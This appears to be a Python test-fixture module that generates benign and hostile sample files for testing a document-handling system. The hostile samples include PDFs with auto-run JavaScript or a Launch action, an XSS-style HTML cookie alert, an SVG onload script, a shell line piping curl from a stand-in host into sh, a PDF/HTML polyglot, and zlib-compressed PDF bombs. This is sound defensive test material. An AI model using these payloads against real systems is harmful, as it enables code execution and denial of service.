"""Real documents made in the test, and hostile ones."""

import io
import struct
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def png(size=(40, 30), color=(200, 10, 10)) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, color).save(output, format="PNG")
    return output.getvalue()


def jpeg(size=(40, 30), color=(10, 200, 10), *, exif: bytes | None = None) -> bytes:
    output = io.BytesIO()
    image = Image.new("RGB", size, color)
    if exif is None:
        image.save(output, format="JPEG")
    else:
        image.save(output, format="JPEG", exif=exif)
    return output.getvalue()


def pdf(*, javascript: str | None = None, attachment: bytes | None = None, launch: bool = False) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if javascript is not None:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(javascript)}
        )
    if attachment is not None:
        writer.add_attachment("note.txt", attachment)
    if launch:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
        )
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
# A PDF header in front of an HTML page: passes a check of the first bytes, is no PDF.
POLYGLOT = b"%PDF-1.4\n" + HTML + b"\n%%EOF\n"


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written byte by byte, cross-reference table and all: object 1 is the first of
    ``objects``, and the catalog."""
    output = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(output)
    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    output += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    output += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(output)


def raw_stream(entries: bytes, data: bytes) -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def one_page_pdf(page_entries: bytes = b"", *objects: bytes) -> bytes:
    """A one-page PDF by hand; ``objects`` are numbered from 4 on."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>" % page_entries,
        *objects,
    )


def object_stream_pdf(*, streams: int, padding: int) -> bytes:
    """A one-page PDF (PDF 1.5, an xref stream) whose catalog reaches one object in each of
    ``streams`` object streams, each object followed by ``padding`` spaces: zlib packs a
    megabyte of them into a kilobyte."""
    first_packed = 10
    packed = [first_packed + streams + number for number in range(streams)]
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Extra [%s] >>" % b" ".join(b"%d 0 R" % n for n in packed)
    objects = {
        1: catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    }
    for index, number in enumerate(packed):
        header = b"%d 0 " % number
        data = zlib.compress(header + b"(x)" + b" " * padding, 9)
        entries = b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header)
        objects[first_packed + index] = raw_stream(entries, data)
    output = bytearray(b"%PDF-1.5\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(output)
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_number = packed[-1] + 1
    offsets[xref_number] = len(output)
    rows = []
    for number in range(xref_number + 1):
        if number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        elif number in packed:
            rows.append(struct.pack(">BIH", 2, first_packed + packed.index(number), 0))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 65535))
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1)
    output += b"%d 0 obj\n%s\nendobj\n" % (xref_number, raw_stream(entries, b"".join(rows)))
    output += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(output)


def wide_xref_pdf(*, entries: int) -> bytes:
    """A one-page PDF whose cross-reference stream claims ``entries`` objects, every one of
    them pointing at the same few bytes: zlib packs a million rows into a few kilobytes,
    and a reader builds its table of every one."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    }
    output = bytearray(b"%PDF-1.5\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(output)
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_number = entries
    offsets[xref_number] = len(output)
    rows = b"".join(struct.pack(">BIH", 1, offsets.get(number, 9), 0) for number in range(entries + 1))
    entries_dict = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % (entries + 1)
    output += b"%d 0 obj\n%s\nendobj\n" % (xref_number, raw_stream(entries_dict, zlib.compress(rows, 9)))
    output += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(output)
